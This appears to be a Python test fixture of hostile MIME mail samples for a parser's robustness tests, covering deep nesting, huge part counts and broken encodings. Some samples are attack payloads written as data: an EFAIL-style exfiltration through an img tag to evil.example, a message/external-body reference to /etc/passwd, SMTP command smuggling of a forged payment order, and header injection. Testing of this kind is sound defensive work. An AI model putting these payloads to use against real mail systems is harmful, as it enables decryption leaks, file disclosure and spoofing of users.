"""m: trees of parts that are broken, endless, or lie about what they hold."""

from __future__ import annotations

from base64 import b64encode

from tests.mail.hostile.sample import (
    BROKEN,
    DEEP,
    EARLY,
    EMPTY,
    MANY,
    PGP,
    PLAIN,
    SMIME,
    TNEF,
    Sample,
    around,
    letter,
    multipart,
    part,
)

_TEXT = ("wo ist meine Ware?",)
_REST = ("attachment-1.bin",)
_HTML = part("<p>Aus <b>HTML</b></p>", "Content-Type: text/html")


def _nested(levels: int) -> bytes:
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (level, level)
        for level in range(levels)
    )
    closing = b"".join(b"\r\n--n%d--" % level for level in reversed(range(levels)))
    return opening + PLAIN + closing


def _deep(levels: int) -> bytes:
    return around(multipart(PLAIN, _nested(levels), boundary="top"))


def _mails_in_mails(levels: int) -> bytes:
    inner = letter("Im Innersten")
    for _level in range(levels):
        inner = b"Content-Type: message/rfc822\r\n\r\n" + inner
    return around(multipart(PLAIN, inner))


def _tnef() -> bytes:
    return b"\x78\x9f\x3e\x22" + b"\x01\x00" + b"\xff" * 40


SAMPLES = (
    Sample("m-nested-20", lambda: around(_nested(20)), contains=_TEXT),
    Sample("m-nested-90", lambda: _deep(90), contains=_TEXT, attachments=_REST, notes=(DEEP,)),
    Sample("m-nested-500", lambda: _deep(500), contains=_TEXT, attachments=_REST, notes=(DEEP,)),
    Sample("m-nested-5000", lambda: _deep(5000), contains=_TEXT, attachments=_REST, notes=(DEEP,)),
    Sample(
        "m-mails-in-mails-200",
        lambda: _mails_in_mails(200),
        contains=_TEXT,
        attachments=("attachment-1.eml",),
    ),
    Sample(
        "m-mail-in-mail-only",
        around(b"Content-Type: message/rfc822\r\n\r\n" + letter("Im Inneren", "Subject: Innen")),
        contains=("Im Inneren",),
        attachments=("Innen.eml",),
    ),
    Sample(
        "m-boundary-missing",
        letter("--real\r\n\r\neins\r\n--real--", "Content-Type: multipart/mixed"),
        contains=("eins",),
        lacks=("--real",),
        notes=(BROKEN,),
    ),
    Sample(
        "m-boundary-empty",
        letter("nur Text", 'Content-Type: multipart/mixed; boundary=""'),
        contains=("nur Text",),
        notes=(BROKEN,),
    ),
    Sample(
        "m-boundary-10k",
        lambda: letter(
            "nur Text", 'Content-Type: multipart/mixed; boundary="' + "x" * 10_000 + '"'
        ),
        contains=("nur Text",),
        notes=None,
    ),
    Sample(
        "m-boundary-prefix-of-another",
        around(multipart(multipart(PLAIN, boundary="bb"), part("zwei"), boundary="b")),
        contains=(*_TEXT, "zwei"),
    ),
    Sample(
        "m-boundary-never-closed",
        around(multipart(PLAIN).removesuffix(b"--b--\r\n")),
        contains=_TEXT,
        notes=(EARLY,),
    ),
    Sample(
        "m-boundary-with-blanks",
        letter(
            "--b  \t\r\n\r\neins\r\n--b-- \r\nEpilog", "Content-Type: multipart/mixed; boundary=b"
        ),
        contains=("eins",),
        lacks=("Epilog",),
    ),
    Sample(
        "m-boundary-10k-lines",
        lambda: around(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n" * 10_000),
        notes=None,
    ),
    Sample(
        "m-parts-10k",
        lambda: around(multipart(PLAIN, *[part("x", "Content-Type: image/png")] * 10_000)),
        contains=_TEXT,
        attachments=None,
        notes=(MANY,),
    ),
    Sample(
        "m-type-twice",
        letter("<b>roh</b>", "Content-Type: text/plain", "Content-Type: text/html"),
        contains=("<b>roh</b>",),
    ),
    Sample("m-type-broken", letter("Text", "Content-Type: /;;;=;"), contains=("Text",)),
    Sample("m-type-only-slash", letter("Text", "Content-Type: text/"), contains=("Text",)),
    Sample("m-type-empty", letter("Text", "Content-Type:"), contains=("Text",)),
    Sample(
        "m-type-unknown",
        letter("Text", "Content-Type: x-unheard/of"),
        contains=(),
        attachments=("attachment-1.bin",),
    ),
    Sample(
        "m-encoding-unknown",
        letter("Te=20xt", "Content-Transfer-Encoding: x-rot13"),
        contains=("Te=20xt",),
    ),
    Sample(
        "m-encoding-prose-as-base64",
        letter("Das, liebe Leute, ist kein Base64.", "Content-Transfer-Encoding: base64"),
        contains=("Das, liebe Leute, ist kein Base64.",),
    ),
    Sample(
        "m-encoding-base64-broken",
        letter(
            "SGFsbG8gV2VsdCwgd28gaXN0IG1laW5lIFdhcmU/\r\n!\r\nR3J1w58",
            "Content-Transfer-Encoding: base64",
        ),
        contains=("Hallo Welt, wo ist meine Ware?", "Gruß"),
    ),
    Sample(
        "m-encoding-quoted-printable-broken",
        letter("a=3Db =ZZ =C3=BC =", "Content-Transfer-Encoding: quoted-printable"),
        contains=("a=b =ZZ ü",),
    ),
    Sample(
        "m-uuencode",
        letter(
            "begin 644 a.txt\r\n%2&%L;&\\\r\n`\r\nend\r\n", "Content-Transfer-Encoding: x-uuencode"
        ),
        contains=("Hallo",),
    ),
    Sample(
        "m-uuencode-in-the-text",
        letter("Vorher\r\nbegin 644 a.txt\r\n%2&%L;&\\\r\n`\r\nend\r\nNachher"),
        contains=("Vorher", "Nachher"),
    ),
    Sample(
        "m-multipart-in-base64",
        letter(
            b64encode(b"--b\r\n\r\nversteckt\r\n--b--\r\n"),
            "Content-Type: multipart/mixed; boundary=b",
            "Content-Transfer-Encoding: base64",
        ),
        contains=("versteckt",),
    ),
    Sample(
        "m-external-body-file",
        around(
            multipart(
                PLAIN,
                part(
                    "Content-Type: text/plain\r\n\r\n",
                    "Content-Type: message/external-body; access-type=local-file;"
                    ' name="/etc/passwd"',
                ),
            )
        ),
        contains=_TEXT,
        lacks=("root:",),
        attachments=("passwd",),
    ),
    Sample(
        "m-external-body-url",
        around(
            multipart(
                PLAIN,
                part(
                    "",
                    "Content-Type: message/external-body; access-type=URL;"
                    ' URL="http://127.0.0.1:1/x"',
                ),
            )
        ),
        contains=_TEXT,
        attachments=("attachment-1.bin",),
    ),
    Sample(
        "m-partial",
        letter("Teil zwei", "Content-Type: message/partial; id=x; number=2; total=9"),
        attachments=("attachment-1.bin",),
    ),
    Sample("m-no-bytes", b"", subject="", sender="", notes=(EMPTY,)),
    Sample("m-only-line-ends", b"\r\n\r\n\r\n", subject="", sender="", notes=(EMPTY,)),
    Sample(
        "m-random-bytes",
        lambda: bytes((index * 7919 + index // 251) % 256 for index in range(5_000)),
        subject="",
        sender="",
        notes=None,
    ),
    Sample(
        "m-no-body",
        letter("").removesuffix(b"\r\n\r\n"),
        lacks=("Frage",),
    ),
    Sample(
        "m-mbox-line",
        b"From anna@example.org Mon Mar  3 10:00:00 2025\n" + letter("Text"),
        contains=("Text",),
    ),
    Sample("m-bare-cr", letter("eins\r\nzwei").replace(b"\r\n", b"\r"), contains=("eins\nzwei",)),
    Sample("m-bare-lf", letter("eins\r\nzwei").replace(b"\r\n", b"\n"), contains=("eins\nzwei",)),
    Sample(
        "m-line-ends-mixed",
        letter("eins\rzwei\nvier").replace(b"Subject: Frage\r\n", b"Subject: Frage\n"),
        contains=("eins\nzwei\nvier",),
    ),
    Sample(
        "m-smuggled-mail",
        letter(
            "Text\n.\nMAIL FROM:<boss@shop.example>\nRCPT TO:<x@y.example>\nDATA\n"
            "From: boss@shop.example\nSubject: Befehl\n\nZahlen!"
        ),
        contains=("Text", "Zahlen!"),
    ),
    Sample(
        "m-alternatives-disagree",
        around(multipart(part("Ich kaufe nichts."), _HTML, kind="alternative")),
        contains=("Ich kaufe nichts.",),
    ),
    Sample(
        "m-alternative-boilerplate",
        around(
            multipart(
                part("Your mail program does not support HTML messages."), _HTML, kind="alternative"
            )
        ),
        contains=("Aus HTML",),
    ),
    Sample(
        "m-alternative-cut-short",
        around(
            multipart(
                part("Guten Tag,"),
                part(f"<p>Guten Tag,</p><p>{'alles fehlt, ' * 20}</p>", "Content-Type: text/html"),
                kind="alternative",
            )
        ),
        contains=("Guten Tag,", "alles fehlt"),
    ),
    Sample(
        "m-efail",
        around(
            multipart(
                part('<img src="http://evil.example/', "Content-Type: text/html"),
                part(
                    b64encode(b"\x30\x80" * 20),
                    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data",
                    "Content-Transfer-Encoding: base64",
                ),
                part('">', "Content-Type: text/html"),
            )
        ),
        attachments=None,
        notes=(SMIME,),
    ),
    Sample(
        "m-pgp-encrypted",
        around(
            multipart(
                part("Version: 1", "Content-Type: application/pgp-encrypted"),
                part("-----BEGIN PGP MESSAGE-----", "Content-Type: application/octet-stream"),
                kind="encrypted",
            )
        ),
        attachments=None,
        notes=(PGP,),
    ),
    Sample(
        "m-smime-encrypted",
        letter(
            b64encode(b"\x30\x80" * 20),
            "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
            "Content-Transfer-Encoding: base64",
        ),
        attachments=("smime.p7m",),
        notes=(SMIME,),
    ),
    Sample(
        "m-tnef-garbage",
        around(
            multipart(
                PLAIN,
                part(
                    b64encode(_tnef()),
                    'Content-Type: application/ms-tnef; name="winmail.dat"',
                    "Content-Transfer-Encoding: base64",
                ),
            )
        ),
        contains=_TEXT,
        attachments=("winmail.dat",),
        notes=(TNEF,),
    ),
    Sample(
        "m-digest",
        around(multipart(letter("Erstes"), letter("Zweites"), kind="digest")),
        contains=("Erstes",),
        attachments=None,
    ),
    Sample(
        "m-header-goes-on-in-the-body",
        letter("Subject: zweiter\r\nFrom: eve@evil.example\r\n\r\nText"),
        contains=("Subject: zweiter", "Text"),
    ),
)
